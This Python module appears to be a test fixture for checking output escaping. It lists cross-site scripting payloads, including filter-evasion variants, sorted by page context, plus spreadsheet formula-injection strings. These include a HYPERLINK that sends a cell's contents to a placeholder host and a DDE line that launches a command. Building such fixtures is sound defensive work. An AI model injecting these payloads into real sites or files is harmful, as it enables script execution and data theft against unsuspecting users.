"""Texts that make a page run a program when it does not escape them, and texts that a spreadsheet would calculate.

Our own spelling of the ideas collected in the OWASP "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org), the
PortSwigger "Cross-site scripting cheat sheet" and the OWASP page on CSV injection. Every text calls `ran(NUMBER)` with
a number of its own, so that a page in which one runs can name it.
"""

from dataclasses import dataclass
from enum import Enum

ELSEWHERE = "https://elsewhere.invalid"


class Place(Enum):
    """Where a page that does not escape would run it, when opened or clicked in today's Chromium."""

    TEXT = "between tags"
    ATTRIBUTE = "within a double-quoted attribute"
    LINK = "as the address of a link"
    SCRIPT = "within a quoted text of a script"
    NOWHERE = "in no place today, only with luck, or only in other programs"


@dataclass(frozen=True, kw_only=True)
class Payload:
    """One hostile text; `number` is what it would call `ran` with."""

    number: int
    text: str
    place: Place


_TEXTS = {
    Place.TEXT: (
        "<script>ran(§)</script>",
        "<ScRiPt>ran(§)</sCrIpT>",
        "<script\n>ran(§)</script\t>",
        "<script/any>ran(§)</script/any>",
        "<<script>ran(§)//<</script>",
        "</title><script>ran(§)</script>",
        "</style><script>ran(§)</script>",
        "</textarea></noscript></script><script>ran(§)</script>",
        "--><script>ran(§)</script><!--",
        "<img src=x onerror=ran(§)>",
        "<img src=x onerror=ran(§)//",
        '<IMG """><script>ran(§)</script>">',
        "<img/src='x'/onerror=ran(§)>",
        "<img src=x onerror=&#114;&#97;&#110;(§)>",
        "<img src=x onerror=&#x72&#x61&#x6e&#x28;§&#x29>",
        "<img src=x one\u0072ror=ran(§)>",
        "<svg onload=ran(§)>",
        "<svg/onload=ran(§)>",
        "<svg><script>ran(§)</script></svg>",
        "<svg><script>ran&#40;§)</script></svg>",
        "<svg><animate onbegin=ran(§) attributeName=x dur=1s>",
        "<svg><style><img src=x onerror=ran(§)></style></svg>",
        "<body onload=ran(§)>",
        "<details open ontoggle=ran(§)>.",
        "<video><source onerror=ran(§)></video>",
        "<audio src=x onerror=ran(§)></audio>",
        "<iframe onload=ran(§)></iframe>",
        "<iframe src=javascript:parent.ran(§)></iframe>",
        "<iframe srcdoc='<script>parent.ran(§)</script>'></iframe>",
        "<style onload=ran(§)></style>",
        "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=ran(§)>b</b>",
        "<object data=x onerror=ran(§)></object>",
        "<embed src=x onload=ran(§) type=text/html>",
    ),
    Place.ATTRIBUTE: (
        '"><script>ran(§)</script>',
        '"><img src=x onerror=ran(§)>',
        '" onerror="ran(§)" src="x',
        '\'"--></style></script><script>ran(§)</script>',
        '"`\'><svg/onload=ran(§)>',
    ),
    Place.LINK: (
        "javascript:ran(§)",
        "JaVaScRiPt:ran(§)",
        "  javascript:ran(§)",
        "java\tscript:ran(§)",
        "java\nscript:ran(§)",
        "\u0001javascript:ran(§)",
        "javascript://a.invalid/%0Aran(§)",
        "javascript:%72an(§)",
        "&#106avascript:ran(§)",
        "java&Tab;script&colon;ran&lpar;§)",
    ),
    Place.SCRIPT: (
        "\";ran(§);//",
        "</script><script>ran(§)</script>",
    ),
    Place.NOWHERE: (
        "<input autofocus onfocus=ran(§)>",
        '" autofocus onfocus="ran(§)" x="',
        "<link rel=stylesheet href=x onerror=ran(§)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=ran(§)>",
        "<script>ran(§)",
        "\\\";ran(§);//",
        f"<script src={ELSEWHERE}/§.js></script>",
        f"<img src={ELSEWHERE}/§.png>",
        f"<base href={ELSEWHERE}/§/>",
        f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/§'>",
        f"<form action={ELSEWHERE}/§><button>ran(§)</button></form>",
        f"<style>@import '{ELSEWHERE}/§.css'; body{{background:url({ELSEWHERE}/§.png)}}</style>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "data:text/html,<script>ran(§)</script>",
        "DATA:text/html;base64,PHNjcmlwdD5yYW4oQCk8L3NjcmlwdD4=",
        "vbscript:ran(§)",
        "feed:javascript:ran(§)",
        "https://elsewhere.invalid\\§javascript:ran(§)",
        "[a link](javascript:ran(§)) ![an image](x\" onerror=\"ran(§))",
        "<javascript:ran(§)>",
        "{{7*7}}{% raw %}ran(§){{ ''.__class__ }}",
        "${ran(§)} #{ran(§)} `ran(§)`",
        "$\\href{javascript:ran(§)}{x}$ \\(\\unicode{x}\\)",
        "\uff1cscript\uff1eran(§)\uff1c/script\uff1e",
        "\u202e<tpircs/>)§(nar<tpircs>",
        "&lt;script&gt;ran(§)&lt;/script&gt;",
        "%3Cscript%3Eran(§)%3C/script%3E",
        "\x1b]8;;javascript:ran(§)\x07x\x1b]8;;\x07",
        "<b a='>' onclick=ran(§)>b",
        "]]><script>ran(§)</script>",
    ),
}  # fmt: skip

FORMULAS = (
    "=1+1",
    "=HYPERLINK(\"https://elsewhere.invalid/?\"&A1,\"x\")",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
    "=WEBSERVICE(\"https://elsewhere.invalid\")",
    "\"=1+1",
    "'=1+1",
    "=1+1\",=1+1,\"",
)  # fmt: skip


def _numbered() -> tuple[Payload, ...]:
    texts = [(place, text) for place, texts in _TEXTS.items() for text in texts]
    return tuple(
        Payload(number=number, place=place, text=text.replace("§", str(number)))
        for number, (place, text) in enumerate(texts, start=1)
    )


PAYLOADS = _numbered()
# What is put into the data: programs for pages, and formulas for spreadsheets.
HOSTILE_TEXTS = (*(payload.text for payload in PAYLOADS), *FORMULAS)
